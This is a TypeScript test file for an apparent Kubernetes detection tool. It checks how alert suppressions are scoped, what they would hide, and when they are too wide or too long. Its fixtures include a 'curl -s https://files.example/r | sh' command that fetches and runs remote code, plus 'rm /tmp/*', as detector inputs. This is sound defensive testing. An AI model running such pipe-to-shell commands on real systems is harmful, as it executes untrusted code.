import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { activityOf, auditEvent, cronJob, signalOf } from '../../../test/support/signals.ts';
import type { Finding, Incident } from '../../model/finding.ts';
import type { JsonObject } from '../../model/json.ts';
import { createCollector } from '../collector.ts';
import { blindSpotOf } from './blind-spot.ts';
import { exceptionScope } from './exception.ts';
import { durationWarnings, widthOf } from './exception-width.ts';
import { hiddenInPast } from './hidden-in-past.ts';
import type { SuppressionScope } from './suppression.ts';

const now = '2026-11-24T00:00:00Z';

interface Found {
  readonly incidents: readonly Incident[];
  readonly findings: readonly Finding[];
}

function found(changes: JsonObject = {}, scope?: SuppressionScope): Found {
  const hiding = {
    id: 'x',
    owner: 'o',
    reason: 'r',
    expires: '2027-01-01',
    expiresAt: Date.parse('2027-01-02'),
  };
  const collector = createCollector({ now, suppressions: scope === undefined ? [] : [{ ...hiding, scope }] });
  const activity = activityOf(auditEvent(changes));
  const finding = collector.take(signalOf(activity), activity);
  return { incidents: [...collector.finish()], findings: finding === undefined ? [] : [finding] };
}

function scopeOf({ incidents: [incident], findings }: Found): ReturnType<typeof exceptionScope> {
  assert.ok(incident);
  return exceptionScope(incident, findings);
}

describe('an exception is as narrow as its incident', () => {
  test('and names all that is known', () => {
    assert.deepEqual(scopeOf(found()), {
      scope: {
        rules: ['rule-download'],
        namespace: ['data'],
        kind: ['CronJob'],
        name: ['nightly-report'],
        user: ['dev@corp.example'],
        repository: ['ghcr.io/ops-tools/runner'],
        command: ['sh -c "curl -s https://files.example/r | sh"'],
        window: ['00:00-23:55'],
      },
      notes: [],
    });
  });

  test('it hides the incident that it was made from, and nothing else than that', () => {
    const { scope } = scopeOf(found());
    assert.deepEqual(found({}, scope).incidents, []);
    const [container] = cronJob.spec.jobTemplate.spec.template.spec.containers;
    const withContainer = (change: JsonObject): JsonObject => {
      const template = { spec: { containers: [{ ...container, ...change }] } };
      const object = { ...cronJob, spec: { ...cronJob.spec, jobTemplate: { spec: { template } } } };
      return { requestObject: object, responseObject: object };
    };
    const renamed = { ...cronJob, metadata: { ...cronJob.metadata, name: 'nightly-report-2' } };
    const others: readonly JsonObject[] = [
      { user: { username: 'other@corp.example' } },
      { requestObject: renamed, responseObject: renamed },
      withContainer({ image: 'ghcr.io/ops-tools/runner2:1' }),
      withContainer({ command: ['sh', '-c', 'curl -s https://files.example/s | sh'] }),
      withContainer({ lifecycle: { postStart: { exec: { command: ['id'] } } } }),
      { level: 'Metadata', requestObject: undefined, responseObject: undefined },
    ];
    for (const other of others) assert.equal(found(other, scope).incidents.length, 1, JSON.stringify(other));
    assert.equal(found(withContainer({ image: 'ghcr.io/ops-tools/runner:2' }), scope).incidents.length, 0);
  });

  test('stars of a command are stars', () => {
    const [container] = cronJob.spec.jobTemplate.spec.template.spec.containers;
    const template = { spec: { containers: [{ ...container, command: ['rm', '/tmp/*'] }] } };
    const object = { ...cronJob, spec: { ...cronJob.spec, jobTemplate: { spec: { template } } } };
    const { scope } = scopeOf(found({ requestObject: object, responseObject: object }));
    assert.deepEqual(scope.command, ['rm "/tmp/\\*"']);
  });

  test('what was not logged is left open, and that is said', () => {
    const { scope, notes } = scopeOf(
      found({ level: 'Metadata', requestObject: undefined, responseObject: undefined }),
    );
    assert.deepEqual([scope.repository, scope.command, scope.window], [undefined, undefined, undefined]);
    assert.match(notes.join(), /not logged/);
  });
});

describe('what it would have hidden of what was kept', () => {
  test('the incident itself; with another user nothing', () => {
    const past = found();
    const { scope } = scopeOf(past);
    assert.deepEqual(
      hiddenInPast(scope, past).incidents.map(({ hidden, findings }) => [hidden.length, findings]),
      [[1, 1]],
    );
    assert.deepEqual(hiddenInPast({ ...scope, user: ['other'] }, past).incidents, []);
    assert.equal(hiddenInPast(scope, { ...past, incidents: [] }).alone.length, 0);
    assert.equal(hiddenInPast({ namespace: ['data'] }, { ...past, incidents: [] }).alone.length, 1);
  });
});

describe('what somebody could do unseen', () => {
  const titleOf = (rule: string): string | undefined => (rule === 'r1' ? 'Rule one' : undefined);
  const spot = (scope: SuppressionScope, expires = '2027-02-01'): string =>
    blindSpotOf({ scope, expires }, { titleOf }).join('\n');

  const table: readonly (readonly [SuppressionScope, RegExp])[] = [
    [
      { user: ['ci'], repository: ['registry.example/app'], namespace: ['shop'], kind: ['CronJob'] },
      /^whoever has the credentials of ci can make or change any CronJob in namespace shop so that it runs any command of any image of repository registry\.example\/app, at any hour and as often as every minute, until the end of 2027-02-01 \(UTC\)$/m,
    ],
    [{ namespace: ['shop'] }, /^anybody can make or change any object in namespace shop/],
    [{ name: ['backup-*'], namespace: ['shop'] }, /any object|object backup-\* in namespace shop/],
    [{ user: ['ci-*'] }, /credentials of any user like ci-\*/],
    [{ kind: ['CronJob'], window: ['02:30-02:30'] }, /at 02:30 by the cluster's clock on any day/],
    [
      { kind: ['CronJob'], window: ['22:00-06:00 Europe/Berlin'] },
      /at any minute of 22:00-06:00 Europe\/Berlin/,
    ],
    [{ kind: ['Deployment'] }, /of any image, until/],
    [{ rules: ['r1', 'anomaly'] }, /hidden is what "Rule one" and the anomaly score would say/],
    [{ kind: ['CronJob'] }, /nothing at all would be said of it/],
    [{ kind: ['CronJob'] }, /nothing limits where its image comes from/],
    [
      { repository: ['registry.example/app'] },
      /whoever can push to registry\.example\/app decides what runs there$/m,
    ],
    [{ rules: ['r1'] }, /rules that look at these and are not named above still report them/],
    [{ cluster: ['prod'] }, /in any namespace of cluster prod/],
  ];
  for (const [scope, expected] of table)
    test(JSON.stringify(scope), () => assert.match(spot(scope), expected));

  test('an image by digest is what it is', () => {
    const image = [`registry.example/app@sha256:${'a'.repeat(64)}`];
    assert.doesNotMatch(spot({ image, command: ['run'] }), /whoever can push/);
  });

  test('of what runs nothing, no commands and images are told', () => {
    assert.doesNotMatch(spot({ kind: ['RoleBinding'], name: ['x'] }), /runs|image/);
  });

  test('hostile text stays on its line', () => {
    assert.doesNotMatch(spot({ name: ['a\nb\u001b[31m'] }).split('\n')[0] ?? '', /\u001b/);
    assert.match(spot({ name: ['a\nb'] }), /a\\nb/);
  });
});

describe('too wide', () => {
  const table: readonly (readonly [SuppressionScope, errors: number, warnings: number])[] = [
    [{ rules: ['r'], user: ['ci'], namespace: ['shop'], name: ['web'], repository: ['r.example/a'] }, 0, 0],
    [{ rules: ['r'], user: ['ci'], namespace: ['shop'], name: ['web'] }, 0, 1],
    [{ user: ['ci'], namespace: ['shop'], name: ['web'] }, 0, 2],
    [{ rules: ['r'], user: ['ci'], namespace: ['shop'] }, 1, 0],
    [{ rules: ['r'], namespace: ['shop'] }, 1, 0],
    [{ rules: ['r'], user: ['*'], namespace: ['shop'], name: ['web'] }, 1, 0],
    [{ rules: ['r'], user: ['c*'], namespace: ['shop'], name: ['web'] }, 1, 0],
    [{ rules: ['r'], user: ['ci'], namespace: ['shop'], name: ['web'], command: ['*'] }, 0, 1],
    [{ rules: ['r'], user: ['ci'], kind: ['ClusterRole'], name: ['reader'] }, 0, 1],
    [{ rules: ['r'], user: ['ci'], kind: ['CronJob'], name: ['reader'] }, 1, 0],
  ];
  for (const [scope, errors, warnings] of table)
    test(JSON.stringify(scope), () => {
      const width = widthOf(scope);
      assert.equal(width.errors.length, errors, width.errors.join());
      if (errors === 0) assert.equal(width.warnings.length, warnings, width.warnings.join());
    });

  test('too long', () => {
    const day = 86_400_000;
    assert.deepEqual(durationWarnings(180 * day, 0), []);
    assert.match(durationWarnings(400 * day, 0).join(), /400 days/);
  });
});
